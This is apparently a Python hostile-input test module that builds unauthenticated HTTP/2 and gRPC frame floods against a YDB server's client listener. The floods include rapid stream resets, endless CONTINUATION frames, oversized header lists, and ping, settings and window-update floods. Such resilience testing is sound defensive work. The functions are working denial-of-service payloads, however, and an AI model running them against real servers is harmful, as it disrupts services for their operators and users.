"""Floods of HTTP/2 frames and calls, for the listener of YDB's clients. None has a token."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Iterator
from functools import partial

from hpack import Encoder

from tests.hostile.target import H2_PREFACE, Target, h2_frame

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
_END_STREAM, _END_HEADERS = 1, 4
BEGIN = H2_PREFACE + h2_frame(_SETTINGS, 0, 0)
_SESSION = "/Ydb.Coordination.V1.CoordinationService/Session"
_WHO = "/Ydb.Discovery.V1.DiscoveryService/WhoAmI"


def call_block(
    path: str = _SESSION, *more: tuple[str, str], encoder: Encoder | None = None
) -> bytes:
    """Return the headers of a call, encoded."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "here"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    block: bytes = (encoder or Encoder()).encode([*headers, *more])
    return block


_BLOCK = call_block()
_AT_ONCE = 100  # calls in a write
_SESSION_START = b"\x1a\x13\n\x0e/local/default\x18\x90N"  # of YDB's API, for 10 s
_SESSION_PING = b"\n\x02\x08\x07"


def _open(stream: int, flags: int = _END_HEADERS, block: bytes = _BLOCK) -> bytes:
    return h2_frame(_HEADERS, flags, stream, block)


def _streams(unit: bytes) -> Iterator[bytes]:
    """Calls on new streams, each followed by `unit`, whose frames have stream 0."""
    for first in itertools.count(1, 2 * _AT_ONCE):
        numbers = range(first, first + 2 * _AT_ONCE, 2)
        yield b"".join(_open(number) + _on(number, unit) for number in numbers)


def _on(stream: int, frame: bytes) -> bytes:
    return frame[:5] + struct.pack(">I", stream) + frame[9:]


def settings(target: Target) -> None:
    """Send empty settings, each of which is acknowledged."""
    target.flood("ydb", BEGIN, h2_frame(_SETTINGS, 0, 0))


def settings_of_a_client(target: Target) -> None:
    """Send empty settings after a call, with which the client is no stranger."""
    who = _open(1, block=call_block(_WHO))
    call = who + h2_frame(_DATA, _END_STREAM, 1, _message(b""))
    target.flood("ydb", BEGIN + call, h2_frame(_SETTINGS, 0, 0))


def pings(target: Target) -> None:
    """Send pings, each of which is answered."""
    target.flood("ydb", BEGIN, h2_frame(_PING, 0, 0, b"12345678"))


def priorities(target: Target) -> None:
    """Send priorities of one stream."""
    target.flood("ydb", BEGIN, h2_frame(_PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10"))


def window_updates(target: Target) -> None:
    """Enlarge the connection's window by one byte at a time."""
    target.flood("ydb", BEGIN, h2_frame(_WINDOW, 0, 0, b"\x00\x00\x00\x01"))


def empty_data(target: Target) -> None:
    """Send empty data on a call."""
    target.flood("ydb", BEGIN + _open(1), h2_frame(_DATA, 0, 1))


def rapid_resets(target: Target) -> None:
    """Open calls, and reset each at once."""
    reset = h2_frame(_RESET, 0, 0, b"\x00\x00\x00\x08")
    target.flood("ydb", BEGIN, partial(_streams, reset))


def continuations(target: Target) -> None:
    """Continue a header block without end."""
    target.flood("ydb", BEGIN + _open(1, 0), h2_frame(_CONTINUATION, 0, 1))


def header_lists(target: Target) -> None:
    """Open calls with as many headers as fit, each one byte long on the wire."""
    encoder = Encoder()
    learn = _open(1, block=call_block(_SESSION, ("a", "b"), encoder=encoder))
    many = call_block(_SESSION, *[("a", "b")] * 10_000, encoder=encoder)[:16384]
    target.flood("ydb", BEGIN + learn, lambda: (_open(each, block=many) for each in _odd(3)))


def _odd(first: int) -> Iterator[int]:
    return itertools.count(first, 2)


def calls(target: Target) -> None:
    """Make calls that are refused."""
    target.flood("ydb", BEGIN, partial(_streams, h2_frame(_DATA, _END_STREAM, 0)))


def small_messages(target: Target) -> None:
    """Send empty requests on a call, thousands in a frame."""
    target.flood("ydb", BEGIN + _open(1), h2_frame(_DATA, 0, 1, bytes(5) * 3000))


def session_pings(target: Target) -> None:
    """Attach a session, and send its pings, thousands in a frame."""
    start = h2_frame(_DATA, 0, 1, _message(_SESSION_START))
    pings = h2_frame(_DATA, 0, 1, _message(_SESSION_PING) * 1700)
    target.flood("ydb", BEGIN + _open(1) + start, pings)


def _message(body: bytes) -> bytes:
    """One message of gRPC."""
    return b"\x00" + struct.pack(">I", len(body)) + body
